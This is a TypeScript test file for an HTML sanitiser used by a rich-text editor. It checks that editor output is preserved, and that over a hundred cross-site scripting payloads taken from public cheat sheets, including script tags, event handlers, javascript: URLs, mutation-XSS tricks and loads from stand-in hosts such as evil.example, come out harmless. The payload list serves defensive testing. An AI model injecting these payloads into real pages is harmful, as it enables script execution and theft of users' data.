import { readFileSync } from 'node:fs'
import fc from 'fast-check'
import { type DefaultTreeAdapterTypes, parseFragment, serialize } from 'parse5'
import { describe, expect, it } from 'vitest'
import { excerptOf, plainText, sanitiseHtml, showsSomething } from './sanitise-html.ts'

/** The HTML as a browser parses it, serialised again. */
const asBrowserReads = (html: string) => serialize(parseFragment(html))

describe('Promise 1: what the editor writes', () => {
  const written = readFileSync(new URL('../../test/fixtures/editor-output.txt', import.meta.url), 'utf8')

  it.each(written.trim().split('\n'))('survives unchanged: %s', (block) => {
    // The end of a style's last declaration is the only difference in spelling.
    const same = (html: string) => asBrowserReads(html).replaceAll(/;"/g, '"').trim()
    expect(same(sanitiseHtml(block))).toBe(same(block))
  })
})

/** Payloads of the kinds listed in public collections: OWASP's cheat sheet, PortSwigger's, DOMPurify's and others. */
const PAYLOADS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="/uploads/editor/a.webp" onload="alert(1)">',
  '<img src=`x`onerror=alert(1)>',
  '<img src="x:x" onerror="alert(1)" //>',
  '<img """><script>alert(1)</script>">',
  '<img src="javascript:alert(1)">',
  '<img srcset="javascript:alert(1) 1x" src="/uploads/editor/a.webp">',
  '<img src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<img src="//evil.example/track.gif">',
  '<img src="/api/logout">',
  '<img src="/uploads/../api/admin">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
  '<title><p title="</title><img src=x onerror=alert(1)>">',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  '<template><img src=x onerror=alert(1)></template>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="https://www.youtube.com/embed/x" srcdoc="<script>alert(1)</script>" onload=alert(1)></iframe>',
  '<iframe src="https://www.youtube.com/embed/&quot;><script>alert(1)</script>"></iframe>',
  '<iframe src="https://evil.example" title="<img src=x onerror=alert(1)>"></iframe>',
  '<iframe src="/\\evil.example"></iframe>',
  '<video src="javascript:alert(1)"></video>',
  '<video><source src="javascript:alert(1)"><a href="javascript:alert(1)">x</a></video>',
  '<article onclick="alert(1)"><section id="x" style="position:fixed">x</section></article>',
  '<figure class="modal-backdrop" onclick="alert(1)"><img src="/uploads/editor/a.webp"></figure>',
  '<oembed url="https://ok.example"><img src=x onerror=alert(1)></oembed>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<applet code="x"></applet>',
  '<base href="javascript:/a/+alert(1)//">',
  '<link rel=stylesheet href="//evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<style>@import "//evil.example/x.css";</style>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<p style="width:expression(alert(1))">x</p>',
  '<p style="position:fixed;inset:0;z-index:9">x</p>',
  '<p style="text-align:center;background-image:url(//evil.example)">x</p>',
  '<p style="-moz-binding:url(//evil.example/x.xml)">x</p>',
  '<figure class="image" style="width:50%;behavior:url(x.htc)">x</figure>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;script:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="\\\\evil.example">x</a>',
  '<a href="https://ok.example" onclick="alert(1)" onmouseover=alert(1)>x</a>',
  '<a href="https://ok.example" target="_blank">x</a>',
  '<a id="location" name="location">clobber</a>',
  '<form id="test"></form><button form="test" formaction="javascript:alert(1)">x</button>',
  '<form action="//evil.example"><input name="password" type="password"></form>',
  '<input autofocus onfocus=alert(1)>',
  '<input type="image" src=x onerror=alert(1)>',
  '<input type="checkbox" onclick="alert(1)" checked>',
  '<select onchange=alert(1)><option>1</select>',
  '<keygen autofocus onfocus=alert(1)>',
  '<video><source onerror="alert(1)"></video>',
  '<audio src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<marquee onstart=alert(1)>',
  '<body onload=alert(1)>',
  '<table background="javascript:alert(1)"><td background="javascript:alert(1)">',
  '<div style="xss:expression(alert(1))">',
  '<div data-oembed-url="javascript:alert(1)"><iframe src="https://evil.example"></iframe></div>',
  '<figure class="media"><oembed url="javascript:alert(1)"></oembed></figure>',
  '<figure class="media"><oembed url="//evil.example"></oembed></figure>',
  '<p class="ck ck-editor__editable modal-backdrop">x</p>',
  '<code class="language-x" onclick=alert(1)>x</code>',
  '<li data-list-item-id="x" onmouseenter=alert(1)>x</li>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<<script>alert(1)//<</script>',
  '<b <script>alert(1)</script>0',
  '<x/onclick=alert(1)>click</x>',
  '<a\nhref=\n"javascript:alert(1)">x</a>',
  '<a/href="javascript:alert(1)">x</a>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<isindex type=image src=1 onerror=alert(1)>',
  '</p><script>alert(1)</script><p>',
  '<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>',
  '<IMG SRC="jav&#x0A;ascript:alert(1);">',
  '\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt>',
  '<img src=x:alert(alt) onerror=eval(src) alt=1>',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '<a href="#a&quot;><img src=x onerror=alert(1)>">x</a><p id="a&quot;><img src=x onerror=alert(1)>">x</p>',
  '<a href="#__proto__">x</a><form id="__proto__"><input name="attributes"></form>',
  '<p title="x" onfocus="alert(1)" tabindex=1 id=x autofocus contenteditable>x</p>',
]

const TAGS = new Set(
  'h2 h3 h4 p br hr blockquote pre code ul ol li label input a strong em b i u s sub sup mark span figure figcaption img table caption colgroup col thead tbody tfoot tr th td oembed div'.split(
    ' ',
  ),
)
const SAFE_ADDRESS = /^(?:https?:\/\/|mailto:|tel:|#|\/(?!\/)|[\w.-]+(?:\/|$))/i

/** Everything harmful in the tree as a browser would build it. */
function harm(node: DefaultTreeAdapterTypes.Node, found: string[] = []): string[] {
  if (node.nodeName === '#comment') found.push('comment')
  if ('tagName' in node) {
    if (!TAGS.has(node.tagName)) found.push(node.tagName)
    for (const { name, value } of node.attrs) {
      const isBookmark = name === 'id' && node.tagName === 'a' && value.startsWith('text-')
      if (/^on|^(?:id|name|form|tabindex|contenteditable|background)/i.test(name) && !isBookmark)
        found.push(name)
      if (['href', 'url', 'src', 'data-oembed-url'].includes(name) && !SAFE_ADDRESS.test(value))
        found.push(value)
      if (name === 'src' && !/^(?:https?:\/\/|\/uploads\/(?!.*\.\.))/.test(value)) found.push(value)
      if (name === 'srcset' && /script|data:/i.test(value)) found.push(value)
      if (name === 'style' && /url|expression|position|binding|behavior/i.test(value)) found.push(value)
    }
    const attribute = (name: string) => node.attrs.find((attr) => attr.name === name)?.value
    if (attribute('target') && !attribute('rel')?.includes('noopener')) found.push('target without rel')
    if (node.tagName === 'input' && attribute('disabled') === undefined) found.push('a live input')
  }
  if ('childNodes' in node) for (const child of node.childNodes) harm(child, found)
  return found
}

describe('what an attacker writes', () => {
  it.each(PAYLOADS.map((payload) => [JSON.stringify(payload), payload]))(
    'does no harm: %s',
    (_shown, payload) => {
      for (const html of [payload, `<p>${payload}</p>`, `<figure class="table"><table><tr><td>${payload}`]) {
        const clean = sanitiseHtml(html)
        expect(harm(parseFragment(clean))).toEqual([])
        // It stays harmless after a browser parses and serialises it once more.
        expect(harm(parseFragment(asBrowserReads(clean)))).toEqual([])
      }
    },
  )

  it('reads broken nesting to its end, so that the next reading finds nothing to change', () => {
    const clean = sanitiseHtml('<p><table><tr><td>a<p><table>')
    expect(sanitiseHtml(clean)).toBe(clean)
  })

  it('does no harm in whatever order the pieces come, and sanitising twice changes nothing', () => {
    const piece = fc.oneof(
      fc.constantFrom(...PAYLOADS),
      fc.string(),
      fc.constantFrom('<', '>', '"', '</', '<!--', '&lt;'),
      fc.constantFrom(
        '<div>',
        '</div>',
        '<p>',
        '<x-a>',
        '<a id="app" href="#app">',
        '<p id="text-x">',
        '<a name="text-x" href="#text-x">',
        '<table>',
        '<dl><dt>',
        '<figure>',
        '<svg>',
        '<math>',
        '<noscript>',
        '<select>',
      ),
    )
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 6 }), (pieces) => {
        const clean = sanitiseHtml(pieces.join(''))
        expect(harm(parseFragment(clean))).toEqual([])
        expect(sanitiseHtml(clean)).toBe(clean)
      }),
      { numRuns: 2_000, seed: 132 },
    )
  })

  it('cannot stall the server with depth or length, or this test would run out of time', () => {
    sanitiseHtml('<b>'.repeat(50_000))
    sanitiseHtml('<a href="'.repeat(20_000))
    sanitiseHtml(`<figure>${'<div>'.repeat(19_000)}`)
    sanitiseHtml(`<figure>${'<table></table>'.repeat(5_000)}`)
    plainText('<p>'.repeat(50_000))
  })
})

describe('an excerpt', () => {
  it('is the text that a reader sees, in one line', () => {
    const html =
      '<h2>Tea &amp; rain</h2><p>a&nbsp;&lt;b&gt; "c"<br>d</p><ul><li>e</li><li>f</li></ul><script>x</script>'
    expect(plainText(html)).toBe('Tea & rain a <b> "c" d e f')
  })

  it('ends at the end of a word, within 300 characters', () => {
    const text = excerptOf(`<p>${'lorem ipsum '.repeat(60)}</p>`)
    expect(text.length).toBeLessThanOrEqual(300)
    expect(text).toMatch(/(?:lorem|ipsum)…$/)
    expect(excerptOf('<p>short</p>')).toBe('short')
    expect(excerptOf(`<p>${'x'.repeat(400)}</p>`)).toHaveLength(300)
    expect(excerptOf(`<p>${'👩‍👩‍👧‍👦'.repeat(400)}</p>`)).toBe(`${'👩‍👩‍👧‍👦'.repeat(299)}…`)
  })
})

it.each([
  ['<p>&nbsp;</p>', false],
  ['<p>\u200b</p><p><br></p>', false],
  ['', false],
  ['<p>x</p>', true],
  ['<figure class="image"><img src="/uploads/editor/a.webp" /></figure>', true],
  ['<figure class="media"><oembed url="https://example.com"></oembed></figure>', true],
])('content counts as missing unless it shows something: %s', (html, shows) => {
  expect(showsSomething(sanitiseHtml(html))).toBe(shows)
})
